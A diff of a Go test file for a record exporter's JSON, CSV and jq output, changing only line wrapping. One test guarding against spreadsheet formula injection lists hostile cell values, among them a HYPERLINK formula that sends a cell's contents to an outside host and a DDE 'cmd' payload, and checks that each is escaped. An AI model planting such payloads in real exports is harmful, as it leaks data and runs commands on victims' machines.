@@ -30,7 +30,11 @@ type hidden struct {
 func rowsOf() []row {
 	total, email := "42921.50", "erik@example.com"
 	return []row{
-		{1042, "Halvorsen, Residence", &total, &person{"Erik <E>", &email}, nil, []person{{Name: "Den"}, {Name: "Bar"}}, "2026-04-06T10:00:00Z"},
+		{
+			1042, "Halvorsen, Residence", &total, &person{"Erik <E>", &email}, nil,
+			[]person{{Name: "Den"}, {Name: "Bar"}},
+			"2026-04-06T10:00:00Z",
+		},
 		{1041, "Quote \" it", nil, nil, &hidden{"x"}, nil, "2026-02-01T10:00:00Z"},
 	}
 }
@@ -71,17 +75,29 @@ func TestFormats(t *testing.T) {
 			Format{Lines: true, Fields: []string{"number", "areas.name"}},
 			`{"number":1042,"areas":[{"name":"Den"},{"name":"Bar"}]}` + "\n" + `{"number":1041,"areas":null}` + "\n",
 		},
-		{"a column for what is in an object", Format{CSV: true}, `number,name,total,customer.name,customer.email,notes,areas,lastModified
+		{
+			"a column for what is in an object",
+			Format{CSV: true},
+			`number,name,total,customer.name,customer.email,notes,areas,lastModified
 1042,"Halvorsen, Residence",42921.50,Erik <E>,erik@example.com,,"[{""name"":""Den"",""email"":null},{""name"":""Bar"",""email"":null}]",2026-04-06T10:00:00Z
 1041,"Quote "" it",,,,x,,2026-02-01T10:00:00Z
-`},
-		{"columns that were asked for", Format{CSV: true, Fields: []string{"customer.name", "number"}}, "customer.name,number\nErik <E>,1042\n,1041\n"},
+`,
+		},
+		{
+			"columns that were asked for",
+			Format{CSV: true, Fields: []string{"customer.name", "number"}},
+			"customer.name,number\nErik <E>,1042\n,1041\n",
+		},
 		{
 			"texts as they are, numbers not as floats",
 			Format{JQ: ".[] | .name, .number, .customer"},
 			"Halvorsen, Residence\n1042\n{\"email\":\"erik@example.com\",\"name\":\"Erik <E>\"}\nQuote \" it\n1041\nnull\n",
 		},
-		{"the expression sees the fields alone", Format{JQ: ".[0] | keys", Fields: []string{"number"}}, "[\"number\"]\n"},
+		{
+			"the expression sees the fields alone",
+			Format{JQ: ".[0] | keys", Fields: []string{"number"}},
+			"[\"number\"]\n",
+		},
 	} {
 		if got := print(t, tt.f, rowsOf()); got != tt.want {
 			t.Errorf("%s:\n%s\nwant\n%s", tt.name, got, tt.want)
@@ -94,7 +110,8 @@ func TestASingleObject(t *testing.T) {
 	if got, want := print(t, Format{Lines: true, Fields: []string{"number"}}, one), "{\"number\":1042}\n"; got != want {
 		t.Errorf("a line: %q, want %q", got, want)
 	}
-	if got, want := print(t, Format{CSV: true, Fields: []string{"number", "areas.name"}}, one), "number,areas.name\n1042,\"[{\"\"name\"\":\"\"Den\"\"},{\"\"name\"\":\"\"Bar\"\"}]\"\n"; got != want {
+	if got, want := print(t, Format{CSV: true, Fields: []string{"number", "areas.name"}}, one),
+		"number,areas.name\n1042,\"[{\"\"name\"\":\"\"Den\"\"},{\"\"name\"\":\"\"Bar\"\"}]\"\n"; got != want {
 		t.Errorf("a row: %q, want %q", got, want)
 	}
 }
@@ -102,7 +119,8 @@ func TestASingleObject(t *testing.T) {
 // A list in a cell is written as elsewhere, so that a script finds the same names.
 func TestAListInACellIsTheJSONOfOtherFormats(t *testing.T) {
 	one := row{Areas: []person{{Name: "Den & <Bar>"}}}
-	if got, want := print(t, Format{CSV: true, Fields: []string{"areas.name"}}, one), "areas.name\n\"[{\"\"name\"\":\"\"Den & <Bar>\"\"}]\"\n"; got != want {
+	if got, want := print(t, Format{CSV: true, Fields: []string{"areas.name"}}, one),
+		"areas.name\n\"[{\"\"name\"\":\"\"Den & <Bar>\"\"}]\"\n"; got != want {
 		t.Errorf("%q, want %q", got, want)
 	}
 }
@@ -110,8 +128,9 @@ func TestAListInACellIsTheJSONOfOtherFormats(t *testing.T) {
 // The name of a client could otherwise send the rest of the sheet to someone else.
 func TestATextInCSVIsNoFormula(t *testing.T) {
 	for text, want := range map[string]string{
-		`=HYPERLINK("https://a.example?"&A1)`: `'=HYPERLINK("https://a.example?"&A1)`, "@SUM(A1)": "'@SUM(A1)", "-1+cmd|'/C calc'!A0": "'-1+cmd|'/C calc'!A0",
-		"+A1": "'+A1", "\t=A1": "'\t=A1", "- rack": "'- rack",
+		`=HYPERLINK("https://a.example?"&A1)`: `'=HYPERLINK("https://a.example?"&A1)`, "@SUM(A1)": "'@SUM(A1)",
+		"-1+cmd|'/C calc'!A0": "'-1+cmd|'/C calc'!A0",
+		"+A1":                 "'+A1", "\t=A1": "'\t=A1", "- rack": "'- rack",
 		"'=A1": "''=A1", "''-5": "'''-5", "'quoted'": "'quoted'", // the next reader removes one apostrophe
 		"-12.50": "-12.50", "+1 (512) 555-0142": "+1 (512) 555-0142", "1=2": "1=2",
 	} {
@@ -146,7 +165,10 @@ func TestInvalidFormatsAreReportedFirst(t *testing.T) {
 		f    Format
 		want string
 	}{
-		{Format{Fields: []string{"nmber"}}, "no field \"nmber\"\n  There are number, name, total, customer, notes, areas, lastModified."},
+		{
+			Format{Fields: []string{"nmber"}},
+			"no field \"nmber\"\n  There are number, name, total, customer, notes, areas, lastModified.",
+		},
 		{Format{Fields: []string{"customer.phone"}}, `no field "customer.phone"`},
 		{Format{JQ: ".["}, "not a jq expression"},
 		{Format{CSV: true, Lines: true}, "Give one of them"},
